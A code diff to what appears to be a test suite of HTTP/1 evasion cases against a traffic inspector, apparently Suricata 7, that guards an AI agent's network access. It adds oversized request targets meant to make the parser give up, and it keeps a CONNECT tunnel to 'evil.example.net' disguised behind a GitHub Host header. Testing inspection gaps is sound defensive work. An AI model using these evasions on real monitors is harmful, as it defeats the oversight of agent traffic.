@@ -1,6 +1,8 @@
 """Evasions in the request line and the Host of one HTTP/1 request of the inspected agent."""
 
 # ruff: noqa: E501 - tables, one case a line
+import dataclasses
+import itertools
 from collections.abc import Iterator
 
 from evasions import EVIL, FORBIDDEN, GET, HOST, OK, OTHER, POST, Case, edited, on_request, talk, whole
@@ -235,6 +237,23 @@ QUERY_ON_GET = (
 )
 
 
+def long_lines() -> Iterator[Case]:
+    """Where a line is longer than it reads, the parser of Suricata 7 gives up and says nothing of it."""
+    granted = http1.raw(GET, "granted")
+    for length, size in itertools.product((2_200, 20_000, 70_000), (100, 700, 1460)):
+        line = dataclasses.replace(whole(edited(GET, (P, b"/user?" + b"a" * length))), pieces=(size,))
+        start = dataclasses.replace(granted, pieces=(size,))
+        for where, steps in (
+            ("behind an answer", (granted, OK, line, OK)),
+            ("ahead of an answer", (granted, line, OK, OK)),
+            ("in the packet of another request", (start, dataclasses.replace(line, joined=True), OK, OK)),
+        ):
+            twin = talk(granted, OK, granted, OK)
+            yield Case(
+                "very long target, later", "a parser's limit", f"{where}, {length} in {size}", talk(*steps), twin
+            )
+
+
 def cases() -> Iterator[Case]:
     for table in (METHODS, SEPARATORS, VERSIONS, PATHS, HOSTS, QUERY_ON_GET):
         yield from on_request(GET, table)
@@ -245,6 +264,7 @@ def cases() -> Iterator[Case]:
         ("host of one grant, path of another, with a body", "the product of grants", (HOST.encode(), OTHER.encode())),
     ):
         yield Case(mechanism, tries, "", talk(whole(edited(POST, edit)), OK), granted)
+    yield from long_lines()
     tunnel = b"CONNECT evil.example.net:443 HTTP/1.1\r\nHost: api.github.com\r\n\r\n"
     yield Case("CONNECT", "a tunnel", "", talk(whole(tunnel), OK), talk(http1.raw(GET, "granted"), OK))
     asterisk = b"OPTIONS * HTTP/1.1\r\nHost: api.github.com\r\n\r\n"
